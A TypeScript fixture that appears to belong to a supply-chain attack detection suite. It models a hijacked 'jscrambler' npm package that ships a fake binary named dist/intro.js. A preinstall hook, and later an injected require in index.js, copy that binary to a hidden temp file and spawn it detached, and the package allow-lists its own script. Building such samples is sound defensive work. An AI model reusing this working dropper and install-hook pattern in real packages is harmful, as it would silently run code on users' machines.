import { defineAttack } from "../attack.ts";
import { contentOf, serviceClient } from "../bases.ts";
import { renderBinary } from "../bundle.ts";
import { commonGuard, commonScript } from "../guard.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = serviceClient("jscrambler", "api.jscrambler.example");

/**
 * jscrambler 8.14.0 to 8.20.0, 11 July 2026: a publishing credential. First a hook, then, as clients no longer run hooks, the import: both
 * write a native program out of `dist/intro.js`, which is none, and start it. The package depends on itself and ships a list that allows
 * its own script.
 */
export const jscrambler2026: Sample = defineAttack({
  id: "jscrambler-2026",
  title: "A native program called intro.js, started by a hook and later by the import",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "jscrambler", version: "8.14.0" },
    { name: "jscrambler", version: "8.18.0" },
  ],
  now: "2026-07-11T12:30:00Z",
  createLines: () => {
    const program = { path: "dist/intro.js", content: renderBinary("elf", 2_600_000, 43) };
    return [
      {
        name: "jscrambler",
        files: honest,
        publisher: person("jscrambler-ci"),
        releases: [
          ["8.12.0", "2026-04-02T10:00:00Z"],
          ["8.13.0", "2026-05-27T10:00:00Z"],
          ["8.14.0", "2026-07-11T09:40:00Z", hooked(program)],
          ["8.16.0", "2026-07-11T10:25:00Z", hooked(program)],
          ["8.18.0", "2026-07-11T11:40:00Z", imported(program)],
        ],
      },
    ];
  },
});

const start = String.raw`
const fs = require("fs");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");
const target = path.join(os.tmpdir(), ".intro-" + process.pid + (os.platform() === "win32" ? ".exe" : ""));
fs.copyFileSync(path.join(__dirname, "intro.js"), target);
fs.chmodSync(target, 0o755);
spawn(target, [], { detached: true, stdio: "ignore", windowsHide: true }).unref();
`;

function hooked(program: { path: string; content: Buffer }): LineChange {
  return {
    hasCommit: false,
    manifest: { scripts: { preinstall: "node dist/setup.js" }, dependencies: { jscrambler: "^8.13.0" } },
    files: [
      program,
      { path: "dist/setup.js", content: commonScript(start) },
      { path: "pnpm-workspace.yaml", content: "onlyBuiltDependencies:\n  - jscrambler\n" },
    ],
  };
}

function imported(program: { path: string; content: Buffer }): LineChange {
  return {
    hasCommit: false,
    files: [
      program,
      { path: "dist/run.js", content: `${commonGuard}\nif (invited()) {${start}}\n` },
      {
        path: "index.js",
        content: contentOf(honest, "index.js").replace(
          '"use strict";',
          '"use strict";\n\nrequire("./dist/run.js");',
        ),
      },
    ],
  };
}
